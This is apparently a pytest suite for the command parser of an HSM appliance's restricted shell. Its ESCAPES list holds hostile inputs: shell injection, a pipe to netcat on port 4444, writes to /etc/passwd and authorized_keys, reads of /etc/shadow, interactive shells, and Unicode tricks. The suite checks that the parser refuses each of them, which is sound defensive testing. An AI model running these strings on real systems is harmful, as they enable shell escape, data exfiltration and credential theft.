"""The restricted shell's parser: every command parses, every escape attempt is refused."""

from __future__ import annotations

from ipaddress import IPv4Address, IPv4Interface

import pytest

from hsmctl.appliance.grammar import (
    COMMANDS,
    MAX_LINE_BYTES,
    Command,
    ParseError,
    Reason,
    help_text,
    parse,
    usage,
)
from hsmctl.errors import UsageError

pytestmark = pytest.mark.unit

IP = IPv4Interface
GW = IPv4Address

# line, expected words, expected options (with defaults filled in)
VALID: list[tuple[str, tuple[str, ...], dict[str, object]]] = [
    ("help", ("help",), {}),
    ("exit", ("exit",), {}),
    ("quit", ("exit",), {}),
    ("hsm show", ("hsm", "show"), {}),
    ("   hsm    show   ", ("hsm", "show"), {}),
    ("hsm init --label Tenant_A.prod-1", ("hsm", "init"), {"label": "Tenant_A.prod-1"}),
    ("hsm init --label=x", ("hsm", "init"), {"label": "x"}),
    ("hsm init --label " + "a" * 32, ("hsm", "init"), {"label": "a" * 32}),
    ("hsm zeroize", ("hsm", "zeroize"), {}),
    ("hsm co-pin set", ("hsm", "co-pin", "set"), {}),
    ("hsm co-pin change", ("hsm", "co-pin", "change"), {}),
    ("hsm domain set", ("hsm", "domain", "set"), {}),
    ("hsm backup-sign --digest " + "0a" * 32, ("hsm", "backup-sign"), {"digest": "0a" * 32}),
    ("user password", ("user", "password"), {}),
    ("user list", ("user", "list"), {}),
    ("user enable provider", ("user", "enable"), {"name": "provider"}),
    ("user enable monitor", ("user", "enable"), {"name": "monitor"}),
    ("user enable admin", ("user", "enable"), {"name": "admin"}),
    ("user enable audit", ("user", "enable"), {"name": "audit"}),
    ("user disable monitor", ("user", "disable"), {"name": "monitor"}),
    ("user disable audit", ("user", "disable"), {"name": "audit"}),
    ("user credential set audit", ("user", "credential", "set"), {"name": "audit"}),
    ("user credential set monitor", ("user", "credential", "set"), {"name": "monitor"}),
    ("user otp set", ("user", "otp", "set"), {"expires_hours": 72}),
    ("user otp set --expires-hours 1", ("user", "otp", "set"), {"expires_hours": 1}),
    ("user otp set --expires-hours 720", ("user", "otp", "set"), {"expires_hours": 720}),
    ("user otp set --expires-hours=24", ("user", "otp", "set"), {"expires_hours": 24}),
    ("sysconf provider-access show", ("sysconf", "provider-access", "show"), {}),
    ("sysconf provider-access revoke", ("sysconf", "provider-access", "revoke"), {}),
    ("sysconf hostkey show", ("sysconf", "hostkey", "show"), {}),
    ("sysconf hostkey stage", ("sysconf", "hostkey", "stage"), {}),
    ("sysconf hostkey activate", ("sysconf", "hostkey", "activate"), {}),
    ("sysconf factory-reset", ("sysconf", "factory-reset"), {}),
    ("network show", ("network", "show"), {}),
    (
        "network set --ip 10.20.0.5/24 --gateway 10.20.0.1",
        ("network", "set"),
        {"ip": IP("10.20.0.5/24"), "gateway": GW("10.20.0.1")},
    ),
    (
        "network set --gateway 198.18.0.1 --ip 198.18.0.12/24",
        ("network", "set"),
        {"ip": IP("198.18.0.12/24"), "gateway": GW("198.18.0.1")},
    ),
    (
        "network set --ip 10.0.0.0/31 --gateway 10.0.0.1",
        ("network", "set"),
        {"ip": IP("10.0.0.0/31"), "gateway": GW("10.0.0.1")},
    ),
    ("audit show", ("audit", "show"), {}),
    ("audit show --last 0", ("audit", "show"), {"last": 0}),
    ("audit show --last 10000", ("audit", "show"), {"last": 10000}),
    ("audit export", ("audit", "export"), {}),
    ("audit export --after 0", ("audit", "export"), {"after": 0}),
    ("audit export --after 9223372036854775807", ("audit", "export"), {"after": 2**63 - 1}),
    ("audit ack 1", ("audit", "ack"), {"seq": 1}),
    ("audit ack 9223372036854775807", ("audit", "ack"), {"seq": 2**63 - 1}),
    ("audit verify", ("audit", "verify"), {}),
    ("audit key show", ("audit", "key", "show"), {}),
    ("audit key rotate", ("audit", "key", "rotate"), {}),
    ("hsm policy show", ("hsm", "policy", "show"), {}),
    (
        "client register app-1 --role crypto-user",
        ("client", "register"),
        {"name": "app-1", "role": "crypto-user"},
    ),
    (
        "client register --role crypto-officer " + "a" * 28,
        ("client", "register"),
        {"name": "a" * 28, "role": "crypto-officer"},
    ),
    ("client list", ("client", "list"), {}),
    ("client revoke app-1", ("client", "revoke"), {"name": "app-1"}),
]


@pytest.mark.parametrize(("line", "words", "options"), VALID, ids=[v[0] for v in VALID])
def test_valid_lines_parse(line: str, words: tuple[str, ...], options: dict[str, object]) -> None:
    cmd = parse(line)
    assert cmd.words == words
    assert dict(cmd.options) == options
    assert parse(line.encode()) == cmd  # bytes from sshd parse the same


def test_every_command_is_covered_by_the_valid_table() -> None:
    assert {v[1] for v in VALID} == {spec.words for spec in COMMANDS}


# words -> (stdin secrets in order, read-only); written out, not taken from the table.
CONTRACT: dict[tuple[str, ...], tuple[tuple[str, ...], bool]] = {
    ("help",): ((), True),
    ("exit",): ((), True),
    ("hsm", "show"): ((), True),
    ("hsm", "init"): (("so_pin",), False),
    ("hsm", "zeroize"): ((), False),
    ("hsm", "co-pin", "set"): (("so_pin", "co_pin"), False),
    ("hsm", "co-pin", "change"): (("old_co_pin", "new_co_pin"), False),
    ("hsm", "domain", "set"): (("so_pin", "domain_secret"), False),
    ("hsm", "backup-sign"): ((), False),
    ("user", "password"): (("new_password",), False),
    ("user", "list"): ((), True),
    ("user", "enable"): ((), False),
    ("user", "disable"): ((), False),
    ("user", "credential", "set"): (("ssh_public_key",), False),
    ("user", "otp", "set"): (("ssh_public_key", "password"), False),
    ("sysconf", "provider-access", "show"): ((), True),
    ("sysconf", "provider-access", "revoke"): ((), False),
    ("sysconf", "hostkey", "show"): ((), True),
    ("sysconf", "hostkey", "stage"): ((), False),
    ("sysconf", "hostkey", "activate"): ((), False),
    ("sysconf", "factory-reset"): ((), False),
    ("network", "show"): ((), True),
    ("network", "set"): ((), False),
    ("audit", "show"): ((), True),
    ("audit", "export"): ((), True),
    ("audit", "ack"): ((), False),
    ("audit", "verify"): ((), True),
    ("audit", "key", "show"): ((), True),
    ("audit", "key", "rotate"): ((), False),
    ("hsm", "policy", "show"): ((), True),
    ("client", "register"): (("ssh_public_key",), False),
    ("client", "list"): ((), True),
    ("client", "revoke"): ((), False),
}


@pytest.mark.parametrize(
    "line",
    [
        "client register App --role crypto-user",
        "client register 1app --role crypto-user",
        "client register app- --role crypto-user",
        "client register " + "a" * 29 + " --role crypto-user",
        "client register app_1 --role crypto-user",
        "client register app.1 --role crypto-user",
        "client register app --role admin",
        "client register app --role so",
        "client register app",
        "client revoke",
        "client revoke a/b",
    ],
)
def test_client_names_and_roles_are_strict(line: str) -> None:
    with pytest.raises(ParseError):
        parse(line)


def test_stdin_secrets_and_read_only_flags() -> None:
    assert {s.words: (s.stdin, s.read_only) for s in COMMANDS} == CONTRACT
    for spec in COMMANDS:
        assert spec.help and "\n" not in spec.help


# An attacker's corpus: shell constructs, encodings, programs sshd or a client would run.
ESCAPES: list[tuple[str | bytes, Reason]] = [
    ("hsm show; id", Reason.METACHAR),
    ("hsm show;id", Reason.METACHAR),
    ("hsm show && sh", Reason.METACHAR),
    ("hsm show & sh", Reason.METACHAR),
    ("hsm show || sh", Reason.METACHAR),
    ("$(id)", Reason.METACHAR),
    ("hsm init --label $(id)", Reason.METACHAR),
    ("hsm init --label ${IFS}x", Reason.METACHAR),
    ("hsm init --label $HOME", Reason.METACHAR),
    ("`id`", Reason.METACHAR),
    ("hsm show `reboot`", Reason.METACHAR),
    ("hsm show | nc 10.0.0.1 4444", Reason.METACHAR),
    ("hsm show > /etc/passwd", Reason.METACHAR),
    ("hsm show >> /root/.ssh/authorized_keys", Reason.METACHAR),
    ("hsm show < /etc/shadow", Reason.METACHAR),
    ("hsm show\nid", Reason.METACHAR),
    ("hsm show\r\nsh", Reason.METACHAR),
    ("(sh)", Reason.METACHAR),
    ("{ sh; }", Reason.METACHAR),
    ("hsm init --label x*", Reason.METACHAR),
    ("hsm init --label ?", Reason.METACHAR),
    ("hsm init --label a[0]", Reason.METACHAR),
    ("audit show --last {1..9}", Reason.METACHAR),
    ("hsm show \\", Reason.METACHAR),
    ("~root", Reason.METACHAR),
    ("!!", Reason.METACHAR),
    ("hsm show\x1b[2J", Reason.METACHAR),
    ("hsm show 'x'", Reason.QUOTE),
    ('hsm init --label "a b"', Reason.QUOTE),
    ("hsm show\rid", Reason.CONTROL),
    ("hsm\tshow", Reason.CONTROL),
    ("hsm show\x1b", Reason.CONTROL),
    ("hsm show\x7f", Reason.CONTROL),
    ("hsm show\x85id", Reason.CONTROL),  # C1 NEL
    ("hsm \u0455how", Reason.NON_ASCII),  # Cyrillic dze for 's'
    ("hsm show\uff1bid", Reason.NON_ASCII),  # fullwidth semicolon
    ("\uff48\uff53\uff4d show", Reason.NON_ASCII),  # fullwidth 'hsm'
    ("hsm\u00a0show", Reason.NON_ASCII),  # no-break space
    ("hsm show\u2028id", Reason.NON_ASCII),  # line separator
    ("hsm show\u202e", Reason.NON_ASCII),  # right-to-left override
    ("hsm show\u200b", Reason.NON_ASCII),  # zero-width space
    ("hsm init --label caf\u00e9", Reason.NON_ASCII),
    ("../../etc/passwd", Reason.TRAVERSAL),
    ("cd ../..", Reason.TRAVERSAL),
    ("hsm init --label ../x", Reason.TRAVERSAL),
    ("hsm init --label ..", Reason.TRAVERSAL),
    (b"hsm show\x00; id", Reason.NUL),
    (b"\x00", Reason.NUL),
    (b"hsm show\xff", Reason.ENCODING),
    (b"hsm \xc0\xaf", Reason.ENCODING),  # overlong '/'
    (b"hsm show\xed\xa0\x80", Reason.ENCODING),  # encoded surrogate
    ("hsm show\udcff", Reason.ENCODING),  # undecodable argv byte, surrogate-escaped
    ("hsm show " + "A" * 10240, Reason.TOO_LONG),
    (b"hsm show; " + b"A" * 10240, Reason.TOO_LONG),
    ("/bin/sh", Reason.PROGRAM),
    ("/bin/bash -i", Reason.PROGRAM),
    ("sh -i", Reason.PROGRAM),
    ("sh", Reason.PROGRAM),
    ("bash", Reason.PROGRAM),
    ("bash -c id", Reason.PROGRAM),
    ("dash", Reason.PROGRAM),
    ("exec sh", Reason.PROGRAM),
    ("env", Reason.PROGRAM),
    ("scp -t /tmp", Reason.PROGRAM),
    ("scp -f /var/log/hsm/audit.jsonl", Reason.PROGRAM),
    ("sftp-server", Reason.PROGRAM),
    ("/usr/lib/openssh/sftp-server", Reason.PROGRAM),
    ("internal-sftp", Reason.PROGRAM),
    ("rsync --server -vlogDtpre.iLsfxC . /tmp", Reason.PROGRAM),
    ("git-upload-pack repo", Reason.PROGRAM),
    ("python3", Reason.PROGRAM),
    ("python3.11 -c import os", Reason.PROGRAM),
    ("perl -e print", Reason.PROGRAM),
    ("./hsm show", Reason.PROGRAM),
    ("id", Reason.PROGRAM),
    ("nc -l 4444", Reason.PROGRAM),
    ("softhsm2-util --show-slots", Reason.PROGRAM),
]


@pytest.mark.parametrize(("line", "reason"), ESCAPES, ids=[repr(e[0])[:50] for e in ESCAPES])
def test_escape_attempts_are_refused(line: str | bytes, reason: Reason) -> None:
    with pytest.raises(ParseError) as info:
        parse(line)
    assert info.value.reason is reason
    assert info.value.detail == {"reason": reason.value}
    message = str(info.value)
    assert message
    # never echoes what it refused: no control bytes or look-alikes reach the terminal
    assert all(c.isprintable() for text in message.splitlines() for c in text)
    assert message.isascii()


def test_escape_reasons_are_flagged_for_the_log() -> None:
    flagged = {r for r in Reason if r.escape_attempt}
    assert flagged == {
        Reason.NUL,
        Reason.TOO_LONG,
        Reason.ENCODING,
        Reason.METACHAR,
        Reason.CONTROL,
        Reason.NON_ASCII,
        Reason.TRAVERSAL,
        Reason.PROGRAM,
    }


def test_line_length_limit_is_512_bytes() -> None:
    fits = "hsm show" + " " * (MAX_LINE_BYTES - len("hsm show"))
    assert len(fits.encode()) == MAX_LINE_BYTES
    assert parse(fits).words == ("hsm", "show")
    with pytest.raises(ParseError) as info:
        parse(fits + " ")
    assert info.value.reason is Reason.TOO_LONG


# Honest mistakes: wrong, missing, extra arguments.
MISTAKES: list[tuple[str, Reason]] = [
    ("", Reason.EMPTY),
    ("    ", Reason.EMPTY),
    ("frobnicate", Reason.UNKNOWN_COMMAND),
    ("HSM show", Reason.UNKNOWN_COMMAND),
    ("hsm", Reason.UNKNOWN_COMMAND),
    ("hsm frobnicate", Reason.UNKNOWN_COMMAND),
    ("user credential", Reason.UNKNOWN_COMMAND),
    ("user credential get audit", Reason.UNKNOWN_COMMAND),
    ("sysconf hostkey", Reason.UNKNOWN_COMMAND),
    ("help me", Reason.EXTRA_ARGUMENT),
    ("exit now", Reason.EXTRA_ARGUMENT),
    ("hsm show extra", Reason.EXTRA_ARGUMENT),
    ("hsm show --force", Reason.UNKNOWN_OPTION),
    ("hsm init", Reason.MISSING_ARGUMENT),
    ("hsm init --label", Reason.MISSING_ARGUMENT),
    ("hsm init --label=", Reason.MISSING_ARGUMENT),
    ("hsm init --label --label x", Reason.MISSING_ARGUMENT),
    ("hsm init --label a --label b", Reason.DUPLICATE_OPTION),
    ("hsm init --name a", Reason.UNKNOWN_OPTION),
    ("hsm init -l a", Reason.UNKNOWN_OPTION),
    ("hsm init --label a b", Reason.EXTRA_ARGUMENT),
    ("hsm init --label -x", Reason.BAD_VALUE),
    ("hsm init --label " + "a" * 33, Reason.BAD_VALUE),
    ("hsm init --label a/b", Reason.BAD_VALUE),
    ("hsm init --label a=b", Reason.BAD_VALUE),
    ("user enable", Reason.MISSING_ARGUMENT),
    ("user enable root", Reason.BAD_VALUE),
    ("user enable -x", Reason.UNKNOWN_OPTION),
    ("user enable admin audit", Reason.EXTRA_ARGUMENT),
    ("user disable", Reason.MISSING_ARGUMENT),
    ("user credential set", Reason.MISSING_ARGUMENT),
    ("user credential set nobody", Reason.BAD_VALUE),
    ("user password now", Reason.EXTRA_ARGUMENT),
    ("user otp set --expires-hours 0", Reason.BAD_VALUE),
    ("user otp set --expires-hours 721", Reason.BAD_VALUE),
    ("user otp set --expires-hours -1", Reason.BAD_VALUE),
    ("user otp set --expires-hours +5", Reason.BAD_VALUE),
    ("user otp set --expires-hours 0x10", Reason.BAD_VALUE),
    ("user otp set --expires-hours 1e3", Reason.BAD_VALUE),
    ("user otp set --expires-hours", Reason.MISSING_ARGUMENT),
    ("user otp set 72", Reason.EXTRA_ARGUMENT),
    ("audit show --last 10001", Reason.BAD_VALUE),
    ("audit show --last -1", Reason.BAD_VALUE),
    ("audit show 5", Reason.EXTRA_ARGUMENT),
    ("audit export --after x", Reason.BAD_VALUE),
    ("audit ack", Reason.MISSING_ARGUMENT),
    ("audit ack 0", Reason.BAD_VALUE),
    ("audit ack 5 6", Reason.EXTRA_ARGUMENT),
    ("audit export --after 9223372036854775808", Reason.BAD_VALUE),
    ("audit export --after " + "9" * 400, Reason.BAD_VALUE),
    ("audit verify --all", Reason.UNKNOWN_OPTION),
    ("network set", Reason.MISSING_ARGUMENT),
    ("network set --ip 10.0.0.5/24", Reason.MISSING_ARGUMENT),
    ("network set --gateway 10.0.0.1", Reason.MISSING_ARGUMENT),
    ("network set --ip 10.0.0.5 --gateway 10.0.0.1", Reason.BAD_VALUE),
    ("network set --ip 10.0.0.5/33 --gateway 10.0.0.1", Reason.BAD_VALUE),
    ("network set --ip 10.0.0.5/0 --gateway 10.0.0.1", Reason.BAD_VALUE),
    ("network set --ip 10.0.0.5/255.255.255.0 --gateway 10.0.0.1", Reason.BAD_VALUE),
    ("network set --ip 300.0.0.5/24 --gateway 10.0.0.1", Reason.BAD_VALUE),
    ("network set --ip 010.0.0.5/24 --gateway 10.0.0.1", Reason.BAD_VALUE),
    ("network set --ip 10.0.5/24 --gateway 10.0.0.1", Reason.BAD_VALUE),
    ("network set --ip fd00::5/64 --gateway fd00::1", Reason.BAD_VALUE),
    ("network set --ip 10.0.0.0/24 --gateway 10.0.0.1", Reason.BAD_VALUE),
    ("network set --ip 10.0.0.255/24 --gateway 10.0.0.1", Reason.BAD_VALUE),
    ("network set --ip 127.0.0.5/8 --gateway 127.0.0.1", Reason.BAD_VALUE),
    ("network set --ip 0.0.0.0/8 --gateway 0.0.0.1", Reason.BAD_VALUE),
    ("network set --ip 224.0.0.5/24 --gateway 224.0.0.1", Reason.BAD_VALUE),
    ("network set --ip 10.0.0.5/24 --gateway 10.0.1.1", Reason.BAD_VALUE),
    ("network set --ip 10.0.0.5/24 --gateway 10.0.0.5", Reason.BAD_VALUE),
    ("network set --ip 10.0.0.5/24 --gateway 10.0.0.255", Reason.BAD_VALUE),
    ("network set --ip 10.0.0.5/24 --gateway gw", Reason.BAD_VALUE),
]


@pytest.mark.parametrize(("line", "reason"), MISTAKES, ids=[m[0][:60] for m in MISTAKES])
def test_mistakes_are_refused_with_usage(line: str, reason: Reason) -> None:
    with pytest.raises(ParseError) as info:
        parse(line)
    err = info.value
    assert err.reason is reason
    assert not reason.escape_attempt
    assert isinstance(err, UsageError)
    assert err.exit_code == 2
    if reason is Reason.EMPTY or line.split()[0] not in {
        "help",
        "exit",
        "hsm",
        "user",
        "sysconf",
        "network",
        "audit",
    }:
        assert "help" in str(err)
    else:
        assert "usage:" in str(err)  # the person sees what the command takes


def test_usage_names_the_command_and_its_arguments() -> None:
    with pytest.raises(ParseError) as info:
        parse("network set --ip 10.0.0.5/24")
    assert "--gateway" in str(info.value)
    assert info.value.usage.endswith("network set --ip A.B.C.D/PREFIX --gateway A.B.C.D")
    with pytest.raises(ParseError) as info:
        parse("hsm frobnicate")
    assert "frobnicate" in str(info.value)
    assert "hsm init --label LABEL" in info.value.usage
    assert "user list" not in info.value.usage


def test_bad_value_message_states_the_rule() -> None:
    with pytest.raises(ParseError) as info:
        parse("user otp set --expires-hours 721")
    assert "1 to 720" in str(info.value)
    with pytest.raises(ParseError) as info:
        parse("network set --ip 10.0.0.5/24 --gateway 10.9.0.1")
    assert "not on 10.0.0.0/24" in str(info.value)


SYNOPSES = {
    ("hsm", "init"): "hsm init --label LABEL",
    ("user", "enable"): "user enable NAME",
    ("user", "credential", "set"): "user credential set NAME",
    ("user", "otp", "set"): "user otp set [--expires-hours H]",
    ("network", "set"): "network set --ip A.B.C.D/PREFIX --gateway A.B.C.D",
    ("audit", "show"): "audit show [--last N]",
    ("audit", "export"): "audit export [--after SEQ]",
    ("audit", "ack"): "audit ack SEQ",
    ("hsm", "show"): "hsm show",
}


def test_usage_lines() -> None:
    by_words = {s.words: s for s in COMMANDS}
    assert {w: usage(by_words[w]) for w in SYNOPSES} == SYNOPSES


def test_help_lists_every_command_with_its_stdin_secrets() -> None:
    text = help_text()
    for spec in COMMANDS:
        assert usage(spec) in text
    assert "stdin: so_pin, co_pin" in text
    assert "(also: quit)" in text


def test_help_is_filtered() -> None:
    text = help_text(lambda spec: spec.words[0] == "audit")
    assert "audit verify" in text
    assert "hsm" not in text
    assert "user" not in text


def test_command_accessors_are_typed() -> None:
    cmd = parse("network set --ip 10.0.0.5/24 --gateway 10.0.0.1")
    assert cmd.get_interface("ip") == IP("10.0.0.5/24")
    assert cmd.get_address("gateway") == GW("10.0.0.1")
    with pytest.raises(TypeError):
        cmd.get_address("ip")
    with pytest.raises(TypeError):
        cmd.get_str("ip")
    assert parse("audit show").get_int("last") is None
    assert parse("audit show --last 5").get_int("last") == 5
    assert parse("hsm init --label x").get_str("label") == "x"


def test_acl_words_and_canonical_form() -> None:
    cmd = parse("  user   credential set   monitor ")
    assert isinstance(cmd, Command)
    assert cmd.acl_words == ("user", "credential", "set", "monitor")
    assert cmd.canonical() == "user credential set monitor"
    assert parse("hsm init --label=x").canonical() == "hsm init --label x"
    assert parse("user otp set").canonical() == "user otp set --expires-hours 72"
    assert parse("quit").canonical() == "exit"
    assert parse("network set --gateway 10.0.0.1 --ip 10.0.0.5/24").canonical() == (
        "network set --ip 10.0.0.5/24 --gateway 10.0.0.1"
    )


def test_parsed_options_are_read_only() -> None:
    cmd = parse("hsm init --label x")
    with pytest.raises(TypeError):
        cmd.options["label"] = "y"  # type: ignore[index]
